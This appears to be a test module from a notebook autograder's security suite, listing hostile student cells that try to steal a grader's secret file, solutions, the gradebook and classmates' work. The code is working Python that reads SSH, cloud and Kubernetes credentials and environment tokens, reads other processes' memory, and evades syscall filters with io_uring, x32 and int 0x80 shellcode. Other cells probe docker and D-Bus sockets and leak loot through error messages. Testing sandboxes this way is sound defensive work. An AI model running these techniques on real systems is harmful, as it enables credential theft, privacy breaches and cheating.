"""Attacks that steal: solutions, secrets, other students' work, what other processes know."""

# ruff: noqa: E501  (the cells are text: lines that say one thing are left whole)

from __future__ import annotations

from tests.hostile.notebooks import CALL, TRY, attack, calling, carrying, cell, trying

_HEX = r"""
def strings(data, *words):
    # What stands around words of interest in raw bytes.
    import re
    for word in words:
        for found in list(re.finditer(re.escape(word), data))[:3]:
            yield data[max(0, found.start() - 80):found.end() + 200]
"""

THEFTS = (
    attack(
        "read-plainly",
        "The secret is opened in every way that Python and NumPy know; its content would stand in the feedback.",
        trying(r"""
            import codecs, fileinput, io, linecache, mmap, shutil, tokenize
            from pathlib import Path
            import numpy as np
            path = "{secret}"
            for mode in ("r", "rb", "r+b"):
                tried("open " + mode, lambda: open(path, mode).read())
            tried("os.open", lambda: os.read(os.open(path, os.O_RDONLY), 1000))
            tried("openat", lambda: os.read(os.open(os.path.basename(path), os.O_RDONLY,
                                                    dir_fd=os.open(os.path.dirname(path), os.O_RDONLY)), 1000))
            tried("FileIO", lambda: io.FileIO(path).read())
            tried("open_code", lambda: io.open_code(path).read())
            tried("codecs", lambda: codecs.open(path).read())
            tried("pathlib", Path(path).read_bytes)
            tried("tokenize", lambda: tokenize.open(path).read())
            tried("fileinput", lambda: list(fileinput.input(path)))
            tried("linecache", lambda: linecache.getlines(path) or 1 / 0)
            tried("fromfile", lambda: np.fromfile(path, dtype=np.uint8).tobytes())
            tried("memmap", lambda: bytes(np.memmap(path, mode="r")))
            tried("genfromtxt", lambda: np.genfromtxt(path, dtype=str))
            tried("mmap", lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:])
            tried("copy", lambda: open(shutil.copy(path, "copy")).read())
            tried("sendfile", lambda: os.sendfile(os.memfd_create("x"), os.open(path, os.O_RDONLY), 0, 1000))
        """),
    ),
    attack(
        "read-by-magic",
        "IPython's own commands read the file: shell escapes, %load, %run, %pycat, scripts in another language.",
        "!cat '{secret}'\n!ls -la '{course}'",
        "%load '{secret}'",
        "%run '{secret}'",
        "%pycat '{secret}'",
        "%%bash\ncat '{secret}' '{course}'/reference/*.txt",
        "%%perl\nopen(my $f, '<', '{secret}'); print <$f>;",
        "%sx cat '{secret}'",
        "%cd '{course}'\n%ls\n%env",
    ),
    attack(
        "read-by-loaders",
        "Loaders, archives and compilers read what `open` may not: an error in compiled code that names the secret as "
        "its file shows the line.",
        trying(r"""
            import importlib.machinery, linecache, runpy, traceback, warnings
            path = "{secret}"
            tried("loader", importlib.machinery.SourceFileLoader("x", path).get_data, path)
            tried("run", runpy.run_path, path)
            tried("exec", lambda: exec(compile("1/0", path, "exec")))
            tried("traceback", lambda: traceback.format_list([(path, 1, "f", None)]))
            tried("warning", lambda: warnings.formatwarning("x", UserWarning, path, 1))
        """),
        'exec(compile("1 / 0", "{secret}", "exec"))',
        'exec(compile("def lost():\\n    pass\\nraise SyntaxError(\'x\', (\'{secret}\', 1, 1, None))", "{secret}", "exec"))',
        answers={
            "gradient_profile": 'exec(compile("def gradient_slope(n): return 1 / 0", "{secret}", "exec"))',
            "clip_gradients": 'exec(compile("def clip_gradients(l, max_norm=1.0): return 1 / 0", "{secret}", "exec"))',
        },
    ),
    attack(
        "read-by-libraries",
        "Libraries open files in their own ways: images, fonts, style sheets, databases, archives, C's own fopen.",
        calling(r"""
            import configparser, csv, sqlite3, tarfile, zipfile
            import matplotlib as mpl, matplotlib.pyplot as plt
            from IPython.display import FileLink, Image, Markdown, SVG
            path = "{secret}"
            tried("fopen", lambda: (libc.fopen.restype, setattr(libc.fopen, "restype", ctypes.c_void_p),
                                    setattr(libc.fgets, "argtypes", [ctypes.c_char_p, ctypes.c_int, ctypes.c_void_p]),
                                    (b := ctypes.create_string_buffer(999)),
                                    libc.fgets(b, 999, libc.fopen(path.encode(), b"r")), b.value)[-1])
            tried("imread", plt.imread, path)
            tried("style", plt.style.use, path)
            tried("rc", mpl.rc_params_from_file, path)
            tried("font", lambda: mpl.font_manager.get_font(path))
            tried("image", lambda: Image(filename=path).data)
            tried("svg", lambda: SVG(filename=path).data)
            tried("markdown", lambda: Markdown(filename=path).data)
            tried("config", configparser.ConfigParser().read, path)
            tried("csv", lambda: list(csv.reader(open(path))))
            tried("sqlite", lambda: sqlite3.connect("file:" + path + "?immutable=1", uri=True).execute("select 1"))
            tried("attach", lambda: sqlite3.connect(":memory:").execute("attach ? as x", [path]))
            tried("dlopen", ctypes.CDLL, path)
            tried("include", lambda: mpl.rcParams.update({"svg.fonttype": "none", "text.usetex": True}))
        """),
    ),
    attack(
        "read-by-descriptors",
        "Paths that no rule may have thought of: O_PATH descriptors reopened by /proc, roots of other processes, "
        "directories walked by `..`.",
        calling(r"""
            path, O_PATH = "{secret}", 0o10000000
            def reopened():
                fd = os.open(path, O_PATH)
                return open("/proc/self/fd/%d" % fd).read(), os.read(fd, 100)
            tried("O_PATH", reopened)
            for root in ("/proc/self/root", "/proc/1/root", "/proc/{grader_pid}/root", "/proc/thread-self/root",
                         "/proc/self/cwd" + "/.." * 12, "/proc/{grader_pid}/cwd" + "/.." * 12, "/dev/fd/../root",
                         "/proc/%d/root" % os.getppid(), "//", "/./" * 50, "/.." * 40):
                tried(root, lambda: open(root + path).read())
            tried("fchdir", lambda: (os.fchdir(os.open("/", O_PATH)), open(path[1:]).read()))
            how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
            tried("openat2", lambda: os.read(call("openat2", -100, path.encode(), how, 24), 1000))
            how = (ctypes.c_uint64 * 3)(O_PATH, 0, 0)
            tried("openat2 O_PATH", lambda: open("/proc/self/fd/%d" % call("openat2", -100, path.encode(), how, 24)).read())
        """),
    ),
    attack(
        "read-by-handle",
        "The file is opened by its handle, past all paths.",
        calling(r"""
            handle = (ctypes.c_uint32 * 34)(128)
            mount = ctypes.c_int()
            def by_handle():
                call("name_to_handle_at", -100, b"{secret}", handle, ctypes.byref(mount), 0)
                for place in (".", "/", "/tmp", "{course}"):
                    fd = call("open_by_handle_at", os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
                    return os.read(fd, 1000)
            tried("handle", by_handle)
        """),
    ),
    attack(
        "read-by-io-uring",
        "The kernel opens and reads the file by io_uring, past a filter that looks at system calls.",
        calling(r"""
            import mmap, struct

            def ring():
                params = ctypes.create_string_buffer(120)
                fd = call("io_uring_setup", 8, params)
                sq, cq = struct.unpack_from("<10I", params, 40), struct.unpack_from("<10I", params, 80)
                flags = dict(flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
                rings = mmap.mmap(fd, max(sq[6] + 4 * 8, cq[5] + 16 * 16), **flags, offset=0)
                entries = mmap.mmap(fd, 64 * 8, **flags, offset=0x10000000)
                return fd, sq, cq, rings, entries

            def submit(opcode, at, address, length, flags):
                fd, sq, cq, rings, entries = ring()
                entries[:64] = struct.pack("<BBHiQQIIQ24x", opcode, 0, 0, at, 0, address, length, flags, 7)
                struct.pack_into("<I", rings, sq[6], 0)
                struct.pack_into("<I", rings, sq[1], struct.unpack_from("<I", rings, sq[1])[0] + 1)
                call("io_uring_enter", fd, 1, 1, 1, None, 0)
                return struct.unpack_from("<Qi", rings, cq[5])[1]

            def read():
                path, buffer = ctypes.create_string_buffer(b"{secret}"), ctypes.create_string_buffer(1000)
                fd = submit(18, -100, ctypes.addressof(path), 0, os.O_RDONLY)
                return submit(22, fd, ctypes.addressof(buffer), 1000, 0), buffer.value

            tried("io_uring", read)
        """),
    ),
    attack(
        "read-by-other-abi",
        "The same through 32-bit system calls, whose numbers mean something else to a careless filter: int 0x80 from "
        "machine code, and the x32 numbers.",
        calling(r"""
            import mmap

            def low_memory(content, protection):
                libc.mmap.restype = ctypes.c_void_p
                libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
                address = libc.mmap(None, 4096, protection, 0x62, -1, 0)  # private, anonymous, below 4 GB
                ctypes.memmove(address, content, len(content))
                return address

            # push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
            code = bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3")

            def by_interrupt():
                int80 = ctypes.CFUNCTYPE(*[ctypes.c_int] * 5)(low_memory(code, 7))
                path, buffer = low_memory(b"{secret}\0", 3), low_memory(b"\0", 3)
                fd = int80(5, path, 0, 0)
                print("open:", fd, "getpid:", int80(20, 0, 0, 0), "kill:", int80(37, int("{grader_pid}"), 0, 0))
                print("mkdir:", int80(39, low_memory(b"{outside}/int80\0", 3), 0o700, 0))
                return int80(3, fd, buffer, 1000), ctypes.string_at(buffer, 1000).rstrip(b"\0")

            def by_x32():
                fd = libc.syscall(ctypes.c_long(0x40000000 | 2), b"{secret}", ctypes.c_long(0))
                libc.syscall(ctypes.c_long(0x40000000 | 83), b"{outside}/x32", ctypes.c_long(0o700))
                return os.read(fd, 1000)

            def by_large_number():
                fd = libc.syscall(ctypes.c_long(2**32 + 2), b"{secret}", ctypes.c_long(0))
                return os.read(fd, 1000)

            if platform.machine() == "x86_64":
                tried("x32", by_x32)
                tried("large number", by_large_number)
                tried("int 0x80", by_interrupt)
        """),
    ),
    attack(
        "links-for-the-grader",
        "Links to the secret are left where the grader or its clean-up might follow them, under every likely name.",
        trying(r"""
            names = ("results.json output.json feedback.html figure.png out.png plot.png stdout.txt stderr.txt log.txt "
                     "gradient_pathology.ipynb .matplotlib .ipython core report.xml").split()
            for name in names:
                tried("symlink " + name, os.symlink, "{secret}", name)
                tried("read it", lambda: open(name).read())
            tried("hard link", os.link, "{secret}", "linked")
            tried("read it", lambda: open("linked").read())
            tried("link descriptor", os.link, "/proc/self/fd/%d" % (tried("fd", os.open, "{secret}", 0o10000000) or 0),
                  "linked2")
            tried("directory", os.symlink, "{course}", "folder")
            tried("read it", lambda: os.listdir("folder"))
            tried("rename", os.rename, "{secret}", "renamed")
        """),
    ),
    attack(
        "course-folder",
        "The whole course folder is walked: solutions, secrets, other students' work, the lesson with its answers.",
        trying(r"""
            import glob
            for root in ("{course}", "{course}/reference", "{course}/submitted", "{course}/source", "."):
                for folder, folders, files in tried("walk " + root, lambda: list(os.walk(root))) or ():
                    for name in files[:20]:
                        path = os.path.join(folder, name)
                        tried(path, lambda: open(path, errors="replace").read(300))
            tried("glob", glob.glob, "{course}/**/*secret*", )
            tried("scan", lambda: [entry.name for entry in os.scandir("{course}")])
            tried("secret.txt", lambda: open("{course}/reference/secret.txt").read())
        """),
    ),
    attack(
        "gradebook-read",
        "The gradebook is opened by every mode of SQLite, copied, and read raw: everybody's points and hidden cells.",
        trying(r"""
            import sqlite3
            path = "{course}/gradebook.db"
            for options in ("", "?mode=ro", "?immutable=1", "?mode=ro&nolock=1", "?vfs=unix-none", "?cache=shared"):
                def read():
                    with sqlite3.connect("file:" + path + options, uri=True) as db:
                        return db.execute("select * from sqlite_master").fetchall()[:20]
                tried(options, read)
            tried("raw", lambda: open(path, "rb").read()[:2000])
            for other in ("-journal", "-wal", "-shm", ".bak"):
                tried(other, lambda: open(path + other, "rb").read()[:500])
        """),
    ),
    attack(
        "other-students-read",
        "The newest work of the others is looked for, and shown as one's own.",
        trying(r"""
            from pathlib import Path
            for place in ("submitted", "autograded", "feedback", "downloaded", "exchange", "release"):
                folder = Path("{course}") / place
                for path in tried(place, lambda: list(folder.rglob("*.ipynb"))) or ():
                    tried(str(path), lambda: path.read_text()[:1000])
                tried("other", lambda: list((folder / "other").iterdir()))
            import tempfile
            for place in (tempfile.gettempdir(), "..", "../..", "../../.."):
                tried(place, os.listdir, place)
        """),
    ),
    attack(
        "processes-read",
        "Memory, environment, descriptors, roots and maps of the grader, the parent and every other process are read by "
        "/proc.",
        cell(
            r"""
            import re
            pids = ["{grader_pid}", str(os.getppid()), "1"] + [name for name in os.listdir("/proc") if name.isdigit()]

            def memory(pid):
                found = []
                with open("/proc/" + pid + "/maps") as maps, open("/proc/" + pid + "/mem", "rb", 0) as mem:
                    for line in maps:
                        low, high = (int(x, 16) for x in line.split()[0].split("-"))
                        if "rw" in line and high - low < 2**26:
                            mem.seek(low)
                            found += strings(mem.read(high - low), b"SOLUTION", b"secret", b"expected")
                return found[:5]

            for pid in dict.fromkeys(pids):
                if pid == str(os.getpid()):
                    continue
                for name in ("environ", "cmdline", "maps", "stack", "syscall", "auxv", "io", "fdinfo/3", "status"):
                    tried(pid + " " + name, lambda: open("/proc/" + pid + "/" + name, "rb").read()[:300])
                for name in ("fd", "root", "cwd", "map_files", "task"):
                    tried(pid + " " + name, lambda: os.listdir("/proc/" + pid + "/" + name)[:50])
                for fd in range(20):
                    tried(pid + " fd", lambda: open("/proc/%s/fd/%d" % (pid, fd), "rb", 0).read(500))
                tried(pid + " memory", memory, pid)
            """,
            TRY + _HEX,
        ),
    ),
    attack(
        "processes-attached",
        "The grader is attached to like a debugger: ptrace, process_vm_readv, its descriptors by pidfd.",
        calling(r"""
            for pid in (int("{grader_pid}"), os.getppid(), 1):
                for request in (16, 0x4206):  # attach, seize
                    tried("ptrace %d" % pid, call, "ptrace", request, pid, 0, 0)
                buffer = ctypes.create_string_buffer(4096)
                local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
                for address in (id(None), 0x400000, ctypes.addressof(buffer)):
                    remote = (ctypes.c_size_t * 2)(address, 4096)
                    tried("vm_readv", lambda: (call("process_vm_readv", pid, local, 1, remote, 1, 0), buffer.raw[:200]))
                    tried("vm_writev", call, "process_vm_writev", pid, local, 0, remote, 0, 0)
                fd = tried("pidfd", call, "pidfd_open", pid, 0)
                for other in range(3, 30):
                    if fd:
                        tried("getfd", lambda: os.read(call("pidfd_getfd", fd, other, 0), 200))
            tried("traceme", call, "ptrace", 0, 0, 0, 0)
        """),
    ),
    attack(
        "own-memory-read",
        "The worker's own memory is searched for what the process it was forked from knew.",
        cell(
            r"""
            def own():
                found = []
                with open("/proc/self/maps") as maps:
                    for line in maps:
                        low, high = (int(x, 16) for x in line.split()[0].split("-"))
                        if line.split()[1].startswith("rw") and high - low < 2**26:
                            found += strings(ctypes.string_at(low, high - low), b"BEGIN " + b"SOLUTION", b"secret.txt",
                                             b"gradebook.db", b"API_" + b"TOKEN")
                return found[:20]
            tried("own memory", own)
            tried("through mem", lambda: open("/proc/self/mem", "rb", 0).seek(id(None)))
            tried("vsyscall", lambda: open("/proc/self/auxv", "rb").read())
            """,
            CALL + _HEX,
        ),
    ),
    attack(
        "descriptors-inherited",
        "Everything that is open already is read, written, rewound and listened to: logs, databases, control sockets.",
        trying(r"""
            import fcntl, select, socket
            for fd in range(0, 300):
                try:
                    mode = os.fstat(fd).st_mode
                except OSError:
                    continue
                print(fd, oct(mode), tried("name", os.readlink, "/proc/self/fd/%d" % fd))
                tried("rewind", os.lseek, fd, 0, 0)
                if select.select([fd], [], [], 0)[0]:
                    tried("read", os.read, fd, 2000)
                tried("list", os.listdir, fd)
                tried("peer", lambda: socket.socket(fileno=os.dup(fd)).getpeername())
                tried("who", lambda: socket.socket(fileno=os.dup(fd)).getsockopt(socket.SOL_SOCKET, 17, 12))
                if fd > 2:
                    for order in (b"f", b"k", b"r"):
                        tried("send", lambda: socket.send_fds(socket.socket(fileno=os.dup(fd)), [order], [0], 64))
        """),
    ),
    attack(
        "environment-read",
        "Tokens and keys are looked for in the environment, Python's, C's, and the kernel's copy of it.",
        calling(r"""
            import getpass, platform, pwd, socket
            print(dict(os.environ))
            tried("C", lambda: ctypes.cast(ctypes.c_void_p.in_dll(libc, "environ"), ctypes.POINTER(ctypes.c_char_p))[:20])
            for pid in ("self", "1", "{grader_pid}", str(os.getppid())):
                tried(pid, lambda: open("/proc/" + pid + "/environ").read())
            tried("user", lambda: (getpass.getuser(), platform.uname(), pwd.getpwall()[:3], socket.gethostname()))
        """),
    ),
    attack(
        "home-and-keys-read",
        "The files in which people keep keys: of ssh, git, cloud tools, pip, netrc, shells, and Jupyter's running "
        "servers with their tokens.",
        trying(r"""
            import glob, pwd
            names = (".ssh/id_rsa .ssh/id_ed25519 .ssh/known_hosts .netrc .pgpass .git-credentials .gitconfig .aws/credentials "
                     ".config/pip/pip.conf .pypirc .bash_history .python_history .docker/config.json .kube/config "
                     ".local/share/jupyter/runtime/*.json .jupyter/*.json .jupyter/*.py .ipython/profile_default/*.sqlite "
                     ".config/gcloud/* .mozilla/firefox/*/logins.json .gnupg/*").split()
            homes = {entry.pw_dir for entry in tried("users", pwd.getpwall) or ()} | {"/root", os.path.expanduser("~")}
            for home in homes:
                for name in names:
                    for path in glob.glob(os.path.join(home, name)):
                        tried(path, lambda: open(path, "rb").read(300))
            for path in ("/etc/shadow", "/etc/pip.conf", "/etc/environment", "/run/secrets", "/etc/sudoers",
                         "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root"):
                tried(path, lambda: open(path, "rb").read(300))
                tried(path, os.listdir, path)
            for path in glob.glob("/run/user/*/jupyter/*.json") + glob.glob("/tmp/*/jpserver-*.json"):
                tried(path, lambda: open(path).read())
        """),
    ),
    attack(
        "kernel-memory-read",
        "Windows into memory and kernel: /dev/mem, kcore, kmsg, dmesg, /proc/keys, disks.",
        calling(r"""
            import glob
            for path in ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/proc/keys",
                         "/proc/key-users", "/proc/kallsyms", "/proc/sched_debug", "/sys/kernel/debug", "/dev/console",
                         "/proc/sysrq-trigger", "/proc/vmallocinfo", "/dev/fuse", "/dev/kvm", "/dev/net/tun",
                         *glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/loop*")]:
                tried(path, lambda: os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 64))
            buffer = ctypes.create_string_buffer(4096)
            for action in (2, 3, 10):
                tried("syslog %d" % action, lambda: (call("syslog", action, buffer, 4096), buffer.value[:100]))
        """),
    ),
    attack(
        "shared-memory-read",
        "Memory that processes share: System V segments by number, POSIX shared memory, message queues, "
        "kernel keyrings.",
        calling(r"""
            import glob
            for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*"):
                tried(path, lambda: open(path, "rb").read(300))
            libc.shmat.restype = ctypes.c_void_p
            def segment(number):
                address = libc.shmat(number, None, 0o10000)
                if address in (None, 2**64 - 1):
                    raise OSError(ctypes.get_errno(), "no segment")
                return ctypes.string_at(address, 64)
            for number in range(64):
                tried("segment", segment, number)
            for path in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"):
                tried(path, lambda: open(path).read())
            for ring in (-1, -2, -3, -4, -5):
                buffer = ctypes.create_string_buffer(1000)
                tried("keyring", lambda: (call("keyctl", 11, ring, buffer, 1000, 0), buffer.raw[:50]))
                tried("describe", lambda: (call("keyctl", 6, ring, buffer, 1000, 0), buffer.value))
        """),
    ),
    attack(
        "local-services-asked",
        "Services of the machine are asked by their sockets: D-Bus, docker, systemd, ssh-agent, X11, any "
        "abstract socket.",
        trying(r"""
            import glob, socket
            paths = ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/snapd.socket",
                     "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify", "/dev/log",
                     os.environ.get("SSH_AUTH_SOCK", ""), *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/run/user/*/*"),
                     *glob.glob("/tmp/ssh-*/agent.*"), "\0/tmp/.X11-unix/X0", "\0/tmp/dbus-x"]
            for line in (tried("list", lambda: open("/proc/net/unix").read()) or "").splitlines()[1:]:
                name = line.split()[-1]
                paths.append("\0" + name[1:] if name.startswith("@") else name)
            for path in paths:
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    def ask():
                        with socket.socket(socket.AF_UNIX, kind) as one:
                            one.settimeout(0.2)
                            one.connect(path)
                            one.send(b"GET /containers/json HTTP/1.0\r\n\r\n")
                            return one.recv(500)
                    tried(path, ask)
        """),
    ),
    attack(
        "core-dumped",
        "Core dumps are asked for and the process crashes, so that its memory, or that of its parent, lies in a file.",
        calling(r"""
            import faulthandler, resource, signal
            tried("pattern", lambda: open("/proc/sys/kernel/core_pattern").read())
            tried("limit", resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            tried("dumpable", libc.prctl, 4, 1, 0, 0, 0)
            tried("filter", lambda: open("/proc/self/coredump_filter", "w").write("0xff"))
            faulthandler.dump_traceback(open("traceback", "w"))
            signal.signal(signal.SIGABRT, signal.SIG_DFL)
            os.abort()
        """),
    ),
    attack(
        "answers-carry-it-out",
        "What was read is put into everything that goes back: results, exceptions, keys, class names, pictures.",
        cell(r"""
            def loot():
                found = ""
                for path in ("{secret}", "{course}/reference/secret.txt", "/proc/self/root{secret}"):
                    try:
                        with open(path) as file:
                            found += file.read()
                    except OSError as error:
                        found += type(error).__name__
                return found
        """),
        "raise RuntimeError(loot())",
        'plt.title(loot())\nplt.show()\nraise type(loot()[:100] or "x", (Exception,), {})',
        answers=carrying("loot()"),
    ),
)
